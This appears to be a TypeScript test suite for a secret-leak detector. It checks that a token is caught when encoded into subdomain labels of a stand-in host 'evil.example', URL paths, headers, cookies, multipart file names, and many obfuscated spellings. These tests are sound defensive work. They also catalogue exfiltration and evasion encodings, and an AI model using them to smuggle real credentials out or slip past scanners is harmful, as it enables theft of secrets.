import t from 'tap';
import type { Finding } from '../../src/core/call.ts';
import type { FieldFormat } from '../../src/inspect/decode/fields.ts';
import { readPart } from '../../src/inspect/read-part.ts';
import { engine } from '../support/detectors.ts';
import { gitlabToken } from '../support/secrets.ts';

/* Where a secret may stand beside the fields of a body, and how it may be written there. */

function read(text: string, format: FieldFormat): Finding[] {
  const part = {
    ...({ name: format === 'head' ? 'head' : 'body', format, host: 'api.test.example' } as const),
    ...{ bytes: Buffer.from(text), locator: () => (at: number) => `${at}` },
  };
  const { findings } = readPart(part, engine, { maxDecodedBytes: 8 * 1024 * 1024, isOver: () => false });
  return findings.filter((it) => it.confidence !== 'low' && it.class === 'SECRETS');
}

const hex = (text: string): string => Buffer.from(text).toString('hex');
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const byByte = (text: string, write: (byte: string) => string): string => hex(text).replace(/../g, write);
const labels = (text: string, length: number): string =>
  text.replace(new RegExp(`.{${length}}(?=.)`, 'g'), '$&.');

/** RFC 4648, 6, in small letters and without padding, as it goes into host names. */
const base32 = (text: string): string =>
  byByte(text, (byte) => Number.parseInt(byte, 16).toString(2).padStart(8, '0')).replace(
    /.{1,5}/g,
    (bits) => 'abcdefghijklmnopqrstuvwxyz234567'[Number.parseInt(bits.padEnd(5, '0'), 2)] ?? '',
  );

const head = (url: string, ...fields: readonly string[]): string =>
  `${[url, ...fields].join('\n\x1e\n')}\n\x1e\n`;
const part = (disposition: string, more = ''): string =>
  `--b\r\nContent-Disposition: form-data; ${disposition}${more}\r\n\r\nx\r\n--b--`;

const places: Readonly<Record<string, (token: string) => string>> = {
  'a label in base32': (it) => head(`https://${base32(it)}.evil.example/`),
  'labels of 32 in base32': (it) => head(`https://${labels(base32(it), 32)}.evil.example/`),
  'a label in hex': (it) => head(`https://${hex(it)}.evil.example/`),
  'labels of 32 in hex': (it) => head(`https://${labels(hex(it), 32)}.evil.example/`),
  'labels of 63 in hex': (it) => head(`https://${labels(hex(`${it} ${it}`), 63)}.evil.example/`),
  'a segment of the path': (it) => head(`https://h.example/files/${it}/x`),
  'a query in base64': (it) => head(`https://h.example/?q=${encodeURIComponent(base64(it))}`),
  'a header field': (it) => head('https://h.example/', `x-note: ${it}`),
  'a header field in base64': (it) => head('https://h.example/', `x-note: ${base64(it)}`),
  'a header field in hex': (it) => head('https://h.example/', `x-note: ${hex(it)}`),
  'a header field as an encoded word (RFC 2047)': (it) =>
    head('https://h.example/', `subject: =?utf-8?B?${base64(it)}?=`),
  'the name of a header field': (it) => head('https://h.example/', `${it}: 1`),
  'a user agent': (it) => head('https://h.example/', `user-agent: tool/1 (${it})`),
  'a cookie': (it) => head('https://h.example/', `cookie: a=1; sid=${it}; b=2`),
  'a cookie in base64': (it) => head('https://h.example/', `cookie: sid=${encodeURIComponent(base64(it))}`),
  'a cookie as JSON': (it) =>
    head('https://h.example/', `cookie: s=${encodeURIComponent(JSON.stringify({ it }))}; b=2`),
  'a file name': (it) => part(`name="f"; filename="${it}.txt"`),
  'a file name in base64': (it) => part(`name="f"; filename="${base64(it)}.bin"`),
  'a file name in hex': (it) => part(`name="f"; filename="${hex(it)}.bin"`),
  'a file name of RFC 5987': (it) => part(`name="f"; filename*=UTF-8''${byByte(it, (byte) => `%${byte}`)}`),
  'the name of a part': (it) => part(`name="${it}"`),
  'a header of a part': (it) => part('name="f"', `\r\nX-Note: ${it}`),
};

for (const [name, write] of Object.entries(places)) {
  t.test(`finds a secret in ${name}`, async (t) => {
    const text = write(gitlabToken());
    t.ok(read(text, text.startsWith('--') ? 'multipart' : 'head').length > 0);
  });
}

const dresses: Readonly<Record<string, (token: string) => string>> = {
  'hex with colons': (it) => byByte(it, (byte) => `${byte}:`).slice(0, -1),
  'hex with dashes': (it) => byByte(it, (byte) => `${byte}-`).slice(0, -1),
  'hex with dots': (it) => byByte(it, (byte) => `${byte}.`).slice(0, -1),
  'hex with underscores': (it) => byByte(it, (byte) => `${byte}_`).slice(0, -1),
  'hex in fours': (it) => hex(it).replace(/.{4}(?=.)/g, '$& '),
  'hex as escapes': (it) => byByte(it, (byte) => `\\x${byte}`),
  'spaced characters': (it) => Array.from(it).join(' '),
  'characters with two spaces': (it) => Array.from(it).join('  '),
  'characters with dashes': (it) => Array.from(it).join('-'),
  'characters with commas': (it) => Array.from(it).join(', '),
  'characters line by line': (it) => Array.from(it).join('\n'),
  'lines of ten': (it) => it.replace(/.{10}(?=.)/g, '$&\n'),
  'two lines': (it) => it.replace(/.{16}/, '$&\n'),
  'full-width characters': (it) =>
    Array.from(it, (character) => String.fromCharCode(character.charCodeAt(0) + 0xfee0)).join(''),
  'entities of HTML': (it) => Array.from(it, (character) => `&#${character.charCodeAt(0)};`).join(''),
  'base64 of base64': (it) => base64(base64(it)),
};

for (const [name, write] of Object.entries(dresses)) {
  t.test(`finds a secret written as ${name}`, async (t) => {
    const note = write(gitlabToken());
    t.ok(read(JSON.stringify({ title: 'x', note }), 'json').length > 0, 'in JSON');
    t.ok(read(`a note: "${note}" and more`, 'text').length > 0, 'in a text');
  });
}

t.test('a list of characters is read as what it spells', async (t) => {
  t.ok(read(JSON.stringify({ list: Array.from(gitlabToken()) }), 'json').length > 0);
});

t.test('numbers, dates and addresses with signs between them are left alone', async (t) => {
  const harmless = [
    '2026-11-21T20:15:00.000Z 2026-11-22T20:15:00.000Z',
    '00:1b:44:11:3a:b7, 00:1b:44:11:3a:b8',
    'SHA256 9f:86:d0:81:88:4c:7d:65:9a:2f:ea:a0:c5:5a:d0:15:a3:bf:4f:1b:2b:0b:82:2c:d1:5d:6c:15:b0:f0:0a:08',
    'a-b-c-d-e-f-g-h-i-j-k-l-m-n-o-p-q-r-s-t-u-v-w-x-y-z',
    '1.2.3.4.5.6.7.8.9.10.11.12.13.14.15.16.17.18',
    JSON.stringify(Array.from('the quick brown fox jumps over')),
  ];
  for (const text of harmless) t.same(read(text, 'text'), [], text);
});
